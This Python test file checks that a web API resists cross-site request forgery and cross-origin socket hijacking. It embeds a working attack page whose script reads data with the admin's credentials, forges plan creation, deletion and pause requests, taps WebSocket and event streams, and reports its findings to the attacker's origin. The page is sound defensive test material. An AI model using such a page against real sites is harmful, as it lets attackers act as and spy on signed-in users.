"""A page of somebody else's, in the browser of an admin, does and learns nothing (S-8).

The browser is let in whatever it sends, as behind a proxy that signs people in: nothing holds but
what we make of whose page asks.
"""

import json
import re
from typing import Final

import pytest
from fastapi.responses import HTMLResponse

from api import origins
from api.app import create_app
from api.live import door
from tests.api.conftest import System, an_admin, known_by
from tests.api.living import a_run
from tests.api.test_executions import a_plan
from tests.attacks.conftest import Villain
from tests.support.browser import Browser
from tests.support.listening import serving

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]

_PAGE: Final = """<!doctype html><title>Kittens</title>
<iframe name="sink"></iframe>
<form id="form" target="sink" method="post" enctype="text/plain" action="VICTIM/plans/create">
<input name='{"goal":{"title":"by a form"},"x":"' value='"}'></form>
<form id="bare" target="sink" method="post" action="VICTIM/executions/RUN/pause"></form>
<img src="/until-told">
<script>
const victim = "VICTIM", found = {};
const learn = (name, promise) => promise.then(
  (what) => { found[name] = what }, (error) => { found[name] = "refused: " + error.name });
const goal = JSON.stringify({goal: {title: "by a page"}});
const post = (path, more) => fetch(victim + path, {method: "POST", ...more});
const json = {"Content-Type": "application/json"};
const text = (answer) => answer.text();
const heard = (path) => new Promise((tell) => {
  const socket = new WebSocket(victim.replace("http", "ws").replace("/api/v1", "") + path);
  socket.onmessage = (message) => tell("heard " + message.data);
  socket.onerror = () => tell("refused");
});
const followed = (path) => new Promise((tell) => {
  const events = new EventSource(victim + path, {withCredentials: true});
  events.onopen = () => tell("open");
  events.onerror = () => { events.close(); tell("refused") };
});
const loaded = (tag, path) => new Promise((tell) => {
  const element = document.createElement(tag);
  element.onload = () => tell("loaded"); element.onerror = () => tell("refused");
  element.src = victim + path; document.body.append(element);
});
async function attack() {
  await learn("reads plans", fetch(victim + "/plans", {credentials: "include"}).then(text));
  await learn("creates a plan", post("/plans/create",
    {headers: json, body: goal, credentials: "include"}).then(text));
  await learn("creates a plan in disguise", post("/plans/create",
    {mode: "no-cors", body: goal, credentials: "include"}).then(text));
  await learn("pauses without a body", post("/executions/RUN/pause", {mode: "no-cors"}).then(text));
  await learn("deletes a plan", fetch(victim + "/plans/PLAN", {method: "DELETE"}).then(text));
  await learn("hears of agents", heard("/ws/agents?after=0"));
  await learn("hears of an execution", heard("/ws/executions/RUN?after=0"));
  await learn("follows an execution", followed("/executions/RUN/events"));
  await learn("loads plans as a script", loaded("script", "/plans"));
  await learn("loads a picture", loaded("img", "/visualizations/PLAN.svg"));
  document.getElementById("form").submit();
  await new Promise((go) => setTimeout(go, 300));
  document.getElementById("bare").submit();
  await new Promise((go) => setTimeout(go, 300));
  await fetch("/told", {method: "POST", body: JSON.stringify(found)});
}
attack();
</script>"""

TRIED: Final = len(re.findall(r'await learn\("', _PAGE))


async def attack(system: System, villain: Villain, browser: Browser) -> tuple[str, str]:
    """Let an admin open the villain's page; return the run and the plan that it goes for."""
    run_id, plan_id = await a_run(system), await a_plan(system)
    async with serving(create_app(known_by(system, an_admin))) as host:
        page = _PAGE.replace("VICTIM", f"http://{host}/api/v1")
        page = page.replace("RUN", run_id).replace("PLAN", plan_id)
        villain.pages["/"] = HTMLResponse(page)
        await browser.open(f"{villain.origin}/")
    return run_id, plan_id


async def asked_of(system: System, run_id: str) -> list[str]:
    """Return what was asked of a run since it began."""
    recorded = await system.deps.streams.read(run_id)
    return [each.type for each in recorded if each.type.startswith("run.")]


@pytest.mark.proves("S-8a", "S-8b", "S-8c")
async def test_a_page_of_somebody_else_does_and_learns_nothing(
    system: System, villain: Villain, browser: Browser
) -> None:
    run_id, plan_id = await attack(system, villain, browser)
    assert len(villain.told) == TRIED
    learnt = {name: what for name, what in villain.told.items() if "refused" not in what}
    assert learnt == {}, json.dumps(learnt, indent=1)
    assert await asked_of(system, run_id) == ["run.started"]
    plan = (await system.http.get(f"/api/v1/plans/{plan_id}")).json()
    assert plan["status"] == "ready"
    titles = [each["title"] for each in (await system.http.get("/api/v1/plans")).json()["plans"]]
    assert len(titles) == 2
    assert not any(title.startswith("by ") for title in titles)


async def test_without_a_look_at_whose_page_asks_it_would(
    system: System, villain: Villain, browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What the test above tries is an attack: it succeeds where nobody looks."""
    for module in (origins, door):
        monkeypatch.setattr(module, "foreign", lambda *_: None)
    run_id, _ = await attack(system, villain, browser)
    assert villain.told["hears of agents"].startswith("heard")
    assert villain.told["hears of an execution"].startswith("heard")
    assert "run.paused" in await asked_of(system, run_id)
